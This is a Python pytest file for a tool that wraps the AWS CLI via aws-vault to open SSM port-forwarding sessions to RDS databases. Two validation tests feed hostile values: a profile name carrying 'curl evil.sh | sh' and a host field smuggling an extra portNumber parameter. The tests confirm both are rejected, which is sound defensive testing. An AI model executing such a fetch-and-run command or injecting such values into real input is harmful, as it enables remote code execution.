import asyncio

import pytest

from rds_ssm_connect.core.exceptions import ValidationError
from rds_ssm_connect.services.aws import command_runner as runner_mod
from rds_ssm_connect.services.aws.command_runner import (
    PORT_FORWARDING_DOCUMENT,
    CommandRunner,
    is_empty_result,
)


class FakeProcess:
    def __init__(self, stdout=b"", stderr=b"", returncode=0, hang=False):
        self._stdout = stdout
        self._stderr = stderr
        self._hang = hang
        self.returncode = None
        self._final_returncode = returncode
        self.killed = False

    async def communicate(self):
        if self._hang:
            await asyncio.sleep(3600)
        self.returncode = self._final_returncode
        return self._stdout, self._stderr

    def kill(self):
        self.killed = True
        self.returncode = -9

    async def wait(self):
        return self.returncode


@pytest.fixture
def spawned(monkeypatch):
    """Replace process creation and record what would have been spawned."""
    state = {"argv": None, "process": FakeProcess()}

    async def fake_exec(*argv, **kwargs):
        state["argv"] = list(argv)
        return state["process"]

    monkeypatch.setattr(runner_mod.asyncio, "create_subprocess_exec", fake_exec)
    return state


def test_build_argv_wraps_aws_cli():
    runner = CommandRunner(identity_wrapper="aws-vault", aws_cli="aws")
    assert runner.build_argv("core-dev", ["sts", "get-caller-identity"]) == [
        "aws-vault", "exec", "core-dev", "--", "aws", "sts", "get-caller-identity",
    ]


def test_build_argv_rejects_malicious_profile():
    runner = CommandRunner()
    with pytest.raises(ValidationError):
        runner.build_argv("dev; curl evil.sh | sh", ["sts", "get-caller-identity"])


def test_build_forwarding_argv():
    runner = CommandRunner(identity_wrapper="aws-vault", aws_cli="aws")
    argv = runner.build_forwarding_argv(
        "core-dev",
        "i-0123456789abcdef0",
        "core-db.cluster-abc.us-east-2.rds.amazonaws.com",
        5432,
        "5433",
        "us-east-2",
    )

    assert argv[:5] == ["aws-vault", "exec", "core-dev", "--", "aws"]
    assert argv[5:7] == ["ssm", "start-session"]
    assert argv[argv.index("--target") + 1] == "i-0123456789abcdef0"
    assert argv[argv.index("--document-name") + 1] == PORT_FORWARDING_DOCUMENT
    assert argv[argv.index("--parameters") + 1] == (
        "host=core-db.cluster-abc.us-east-2.rds.amazonaws.com,"
        "portNumber=5432,localPortNumber=5433"
    )


def test_build_forwarding_argv_rejects_injected_host():
    runner = CommandRunner()
    with pytest.raises(ValidationError):
        runner.build_forwarding_argv(
            "core-dev", "i-0123456789abcdef0", "db,portNumber=22", 5432, 5433, "us-east-2"
        )


def test_is_empty_result():
    assert is_empty_result(None)
    assert is_empty_result("")
    assert is_empty_result("None")
    assert not is_empty_result("i-0123456789abcdef0")


@pytest.mark.asyncio
async def test_run_returns_trimmed_stdout(spawned):
    spawned["process"] = FakeProcess(stdout=b"  i-0123456789abcdef0\n")
    runner = CommandRunner(identity_wrapper="aws-vault", aws_cli="aws")

    output = await runner.run("core-dev", ["ec2", "describe-instances"])

    assert output == "i-0123456789abcdef0"
    assert spawned["argv"][:5] == ["aws-vault", "exec", "core-dev", "--", "aws"]


@pytest.mark.asyncio
async def test_run_returns_none_on_non_zero_exit(spawned):
    spawned["process"] = FakeProcess(stderr=b"AccessDenied", returncode=255)
    runner = CommandRunner()

    assert await runner.run("core-dev", ["ec2", "describe-instances"]) is None


@pytest.mark.asyncio
async def test_run_kills_and_returns_none_on_timeout(spawned):
    process = FakeProcess(hang=True)
    spawned["process"] = process
    runner = CommandRunner(timeout=0.05)

    assert await runner.run("core-dev", ["ec2", "describe-instances"]) is None
    assert process.killed


@pytest.mark.asyncio
async def test_run_returns_none_when_wrapper_is_missing():
    runner = CommandRunner(identity_wrapper="/nonexistent/aws-vault")

    assert await runner.run("core-dev", ["sts", "get-caller-identity"]) is None
